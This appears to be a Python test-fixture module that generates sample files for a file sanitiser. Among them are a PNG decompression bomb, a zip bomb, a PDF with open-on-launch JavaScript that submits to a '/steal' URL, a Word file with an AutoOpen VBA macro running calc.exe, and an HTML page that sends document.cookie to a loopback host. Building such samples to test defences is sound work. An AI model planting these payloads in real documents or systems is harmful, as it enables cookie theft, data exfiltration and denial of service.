"""Hostile and ordinary files for the 無害化 tests and bench/sanitise.py, written here in code.

Nothing is downloaded or checked in: each function returns the bytes of one file.
"""

from __future__ import annotations

import io
import zipfile

GPS_LATITUDE = (35.0, 41.0, 22.5)


def jpeg_with_gps(width: int = 320, height: int = 240) -> bytes:
    """A photo with a camera model and GPS position in its EXIF (as phones write them)."""
    from PIL import Image

    image = Image.new("RGB", (width, height), (200, 40, 40))
    for x in range(0, width, 8):
        for y in range(0, height, 8):
            image.putpixel((x, y), (20, 200, 20))
    exif = Image.Exif()
    exif[0x0110] = "SecretPhone 12"  # Model
    exif[0x0131] = "madoguchi-test-camera"  # Software
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = GPS_LATITUDE
    gps[3] = "E"
    gps[4] = (139.0, 41.0, 30.0)
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, quality=85)
    return buffer.getvalue()


def png(width: int = 64, height: int = 48) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (10, 80, 200)).save(buffer, "PNG")
    return buffer.getvalue()


def png_bomb(side: int = 20_000) -> bytes:
    """A PNG that claims side×side pixels (400 megapixels): a few KB, gigabytes once decoded."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    row = b"\x00" + b"\x00" * side
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(200)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def pdf(pages: int = 1, text: str = "Kokuho application form", javascript: bool = False) -> bytes:
    """A PDF of `pages` A4 pages with `text` (ASCII, Helvetica) on each; optionally with a
    JavaScript action that runs on opening (in a reader that runs it: ours renders only)."""
    objects: list[bytes] = []
    page_ids = [4 + 2 * i for i in range(pages)]
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if javascript:
        catalog += (
            b" /OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\); "
            b"this.submitForm\\('http://127.0.0.1:9/steal'\\);) >>"
            b" /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>]"
            b" >> >>"
        )
    objects.append(catalog + b" >>")
    kids = b" ".join(f"{pid} 0 R".encode() for pid in page_ids)
    objects.append(f"<< /Type /Pages /Count {pages} /Kids [".encode() + kids + b"] >>")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for number in range(1, pages + 1):
        stream = f"BT /F1 24 Tf 72 760 Td ({text} page {number}) Tj ET".encode()
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {4 + 2 * number - 1}"
            " 0 R /Resources << /Font << /F1 3 0 R >> >> >>".encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
    # Page objects are 4, 6, 8 …; their contents 5, 7, 9 … (the list above interleaves them).
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for index, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{index} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
    'application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)


def docx(text: str = "国民健康保険の申請書の下書き", macro: bool = False) -> bytes:
    """A Word document; with `macro`, a VBA project inside (as a .docm carries it)."""
    document = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
        'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        f"{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", document)
        if macro:
            archive.writestr(
                "word/vbaProject.bin",
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                + "_VBA_PROJECT".encode("utf-16-le")
                + b'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
            )
    return buffer.getvalue()


def html() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>invoice</title></head><body>"
        b"<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
        b"<p>\xe8\xab\x8b\xe6\xb1\x82\xe6\x9b\xb8</p></body></html>"
    )


def zip_bomb(megabytes: int = 200) -> bytes:
    """A ZIP of a few hundred KB that expands to `megabytes` MB of zeros."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        block = b"\x00" * 2**20
        for _ in range(megabytes):
            member.write(block)
    return buffer.getvalue()
